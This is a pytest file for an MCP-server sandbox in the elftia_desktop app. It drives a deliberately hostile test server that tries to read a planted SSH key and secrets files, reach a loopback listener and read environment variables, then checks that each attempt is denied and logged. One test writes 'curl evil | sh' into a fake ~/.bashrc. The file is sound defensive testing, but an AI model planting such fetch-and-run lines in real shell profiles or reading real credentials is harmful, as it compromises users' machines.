"""Issue 33: a trusted stdio server in its sandbox cannot touch what the sandbox hides, and each try is reported.

The hostile test server (``tests/servers/hostile.py``) tries to read a planted ``~/.ssh/id_rsa``,
write ``~/.bashrc``, list the home folder, read the data folder's config and secrets files, reach a
loopback listener the profile does not allow, and read the app's environment. Sandbox on: each is
denied (and the denials are in the server's log as ``[sandbox] blocked: …``); sandbox off: the
same server gets everything, so these tests fail when the sandbox does nothing.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from elftia_desktop.connections.service import McpService
from elftia_desktop.core.sandbox import BLOCKED_PREFIX
from elftia_desktop.platform.sandbox import sandbox_support
from tests.connections.pool_helpers import add_server, stdio_input

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.timeout(120),
    pytest.mark.skipif(sandbox_support() is not None, reason=f"no sandbox here: {sandbox_support()}"),
]
PROFILE = {"enabled": True, "net": "allow", "allowNet": ["example.com:443"]}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake home with a private key and a shell profile planted in it."""
    folder = tmp_path / "home"
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    (folder / ".bashrc").write_text("# profile\n")
    monkeypatch.setenv("HOME", str(folder))
    (tmp_path / "secrets.json").write_text("{}")
    return folder


@pytest.fixture
async def listener() -> AsyncIterator[int]:
    """A loopback server that greets each connection with ``HELLO``; yields its port."""

    async def greet(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HELLO\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(greet, "127.0.0.1", 0)
    try:
        yield int(server.sockets[0].getsockname()[1])
    finally:
        server.close()


async def hostile(service: McpService, sandbox: dict[str, Any] | None) -> str:
    """Add the hostile server, trusted, with ``sandbox``; returns its id."""
    return await add_server(service, stdio_input("hostile", "hostile", sandbox=sandbox))


async def ask(service: McpService, server_id: str, tool: str, **arguments: Any) -> str:
    """The text the tool answered."""
    result = await service.call_tool(server_id, tool, arguments)
    return str(result.content[0]["text"])


def blocked(service: McpService, server_id: str) -> list[str]:
    """The ``[sandbox] blocked:`` lines of the server's log."""
    lines = service.server_log(server_id)
    return [line.removeprefix(BLOCKED_PREFIX) for line in lines if line.startswith(BLOCKED_PREFIX)]


@pytest.mark.parametrize("sandbox", [PROFILE, None], ids=["sandboxed", "not-sandboxed"])
async def test_home_data_folder_loopback_and_environment(
    service: McpService,
    home: Path,
    tmp_path: Path,
    listener: int,
    monkeypatch: pytest.MonkeyPatch,
    sandbox: dict[str, Any] | None,
) -> None:
    """One hostile server per profile tries each in turn (each check was a test with a server of its own)."""
    monkeypatch.setenv("NO_PROXY", "app-only.example")  # one the app passes to unsandboxed servers
    server_id = await hostile(service, sandbox)
    await _home_files(service, server_id, home, sandbox)
    await _data_folder_and_secrets(service, server_id, tmp_path, sandbox)
    await _loopback_listener_not_allowed(service, server_id, listener, sandbox)
    await _environment(service, server_id, home, sandbox)


async def _home_files(service: McpService, server_id: str, home: Path, sandbox: dict[str, Any] | None) -> None:
    key = await ask(service, server_id, "read_file", path="~/.ssh/id_rsa")
    wrote = await ask(service, server_id, "write_file", path="~/.bashrc", text="curl evil | sh\n")
    listing = await ask(service, server_id, "list_dir", path="~")
    if sandbox is None:
        assert key == "OK:PRIVATE KEY"
        assert wrote == "OK:written" and "curl evil" in (home / ".bashrc").read_text()
        assert ".ssh" in listing and ".bashrc" in listing
        assert blocked(service, server_id) == []
        return
    assert key.startswith("DENIED:") and wrote.startswith("DENIED:")
    assert (home / ".bashrc").read_text() == "# profile\n"
    assert listing.startswith("OK:") and ".ssh" not in listing and ".bashrc" not in listing
    assert f"file {home}/.ssh/id_rsa (outside the sandbox)" in blocked(service, server_id)
    assert f"file {home}/.bashrc (not allowed)" in blocked(service, server_id)


async def _data_folder_and_secrets(
    service: McpService, server_id: str, tmp_path: Path, sandbox: dict[str, Any] | None
) -> None:
    config = await ask(service, server_id, "read_file", path=str(tmp_path / "mcp-config.json"))
    secrets = await ask(service, server_id, "read_file", path=str(tmp_path / "secrets.json"))
    if sandbox is None:
        assert "hostile" in config and secrets == "OK:{}"
        return
    assert config.startswith("DENIED:") and secrets.startswith("DENIED:")
    assert f"file {tmp_path}/mcp-config.json (outside the sandbox)" in blocked(service, server_id)
    assert f"file {tmp_path}/secrets.json (outside the sandbox)" in blocked(service, server_id)


async def _loopback_listener_not_allowed(
    service: McpService, server_id: str, listener: int, sandbox: dict[str, Any] | None
) -> None:
    answer = await ask(service, server_id, "connect", host="127.0.0.1", port=listener)
    if sandbox is None:
        assert answer == "OK:HELLO"
        return
    assert answer.startswith("DENIED:") and "403" in answer
    network = [line for line in blocked(service, server_id) if line.startswith("network")]
    assert network == [f"network 127.0.0.1:{listener} (not allowed)"]


async def _environment(service: McpService, server_id: str, home: Path, sandbox: dict[str, Any] | None) -> None:
    passed = await ask(service, server_id, "env", name="NO_PROXY")
    home_inside = await ask(service, server_id, "env", name="HOME")
    assert home_inside.startswith(f"OK:{home}|")
    if sandbox is None:
        assert passed.startswith("OK:app-only.example|")
    else:
        assert passed.startswith("OK:None|")


async def test_an_allowed_host_goes_through_the_proxy(service: McpService, home: Path, listener: int) -> None:
    server_id = await hostile(service, {"net": "allow", "allowNet": [f"127.0.0.1:{listener}"]})
    assert await ask(service, server_id, "connect", host="127.0.0.1", port=listener) == "OK:HELLO"
    assert blocked(service, server_id) == []
    assert (await ask(service, server_id, "env", name="NODE_USE_ENV_PROXY")).startswith("OK:1|")  # Node's fetch


async def test_no_network_means_no_loopback_either_and_no_proxy_for_node(
    service: McpService, home: Path, listener: int
) -> None:
    server_id = await hostile(service, {"net": "none"})
    answer = await ask(service, server_id, "connect", host="127.0.0.1", port=listener)
    assert answer.startswith("DENIED:")
    assert any(line.startswith("network (the sandbox has no network") for line in blocked(service, server_id))
    # Node is told to use the proxy only where there is one (test_an_allowed_host_goes_through_the_proxy)
    assert (await ask(service, server_id, "env", name="NODE_USE_ENV_PROXY")).startswith("OK:None|")


async def test_allowed_folder_is_writable(service: McpService, home: Path, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    server_id = await hostile(service, {"allowWrite": [str(shared)], "allowRead": ["~/.ssh"]})
    assert await ask(service, server_id, "write_file", path=str(shared / "out.txt"), text="hi") == "OK:written"
    assert (shared / "out.txt").read_text() == "hi"
    assert await ask(service, server_id, "read_file", path="~/.ssh/id_rsa") == "OK:PRIVATE KEY"
    assert (await ask(service, server_id, "write_file", path="~/.ssh/id_rsa", text="x")).startswith("DENIED:")


TIME_SERVER = shutil.which("mcp-server-time", path=os.path.dirname(sys.executable))


@pytest.mark.skipif(TIME_SERVER is None, reason="mcp-server-time is not installed in this environment")
async def test_the_pypi_time_server_works_sandboxed(service: McpService, home: Path) -> None:
    command = TIME_SERVER
    assert command is not None
    server_id = await add_server(
        service,
        stdio_input("time", "hostile", config={"command": command, "args": ["--local-timezone", "UTC"]}, sandbox={}),
    )
    result = await service.call_tool(server_id, "get_current_time", {"timezone": "Europe/Paris"})
    assert not result.is_error, result.content
    assert "Europe/Paris" in str(result.content[0]["text"])


@pytest.mark.parametrize("sandbox", [True, False], ids=["sandboxed", "not-sandboxed"])
def test_logs_command_shows_the_denials(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, sandbox: bool
) -> None:
    from elftia_desktop.cli import main

    monkeypatch.setenv("ELFTIA_NO_DAEMON", "1")
    command = [sys.executable, str(Path(__file__).parents[1] / "servers" / "hostile.py"), "--read-at-start"]
    assert main(["add", "greedy", "--", *command, "~/.ssh/id_rsa"]) == 0
    assert main(["trust", "greedy", "--yes"]) == 0
    assert main(["sandbox", "greedy", "--on" if sandbox else "--off"]) == 0
    assert main(["trust", "greedy", "--yes"]) == 0
    capsys.readouterr()
    assert main(["logs", "greedy", "--no-daemon"]) == 0
    out = capsys.readouterr().out
    assert (f"[sandbox] blocked: file {home}/.ssh/id_rsa (outside the sandbox)" in out) is sandbox


@pytest.mark.daemon
@pytest.mark.skipif(TIME_SERVER is None, reason="mcp-server-time is not installed in this environment")
def test_the_time_server_sandboxed_through_the_pool_host(isolated_data_dir: Path, home: Path) -> None:
    from tests.host.host_helpers import cli

    assert TIME_SERVER is not None
    assert cli(isolated_data_dir, "add", "time", "--", TIME_SERVER, "--local-timezone", "UTC").returncode == 0
    assert cli(isolated_data_dir, "sandbox", "time", "--on", "--net", "none").returncode == 0
    assert cli(isolated_data_dir, "trust", "time", "--yes").returncode == 0
    try:
        called = cli(isolated_data_dir, "call", "time", "get_current_time", "--args", '{"timezone": "Asia/Tokyo"}')
        assert called.returncode == 0, called.stderr
        assert "Asia/Tokyo" in called.stdout
        status = cli(isolated_data_dir, "daemon", "status", "--json")
        assert '"time"' in status.stdout  # the call ran on the pool host, which keeps the server
    finally:
        cli(isolated_data_dir, "daemon", "stop")
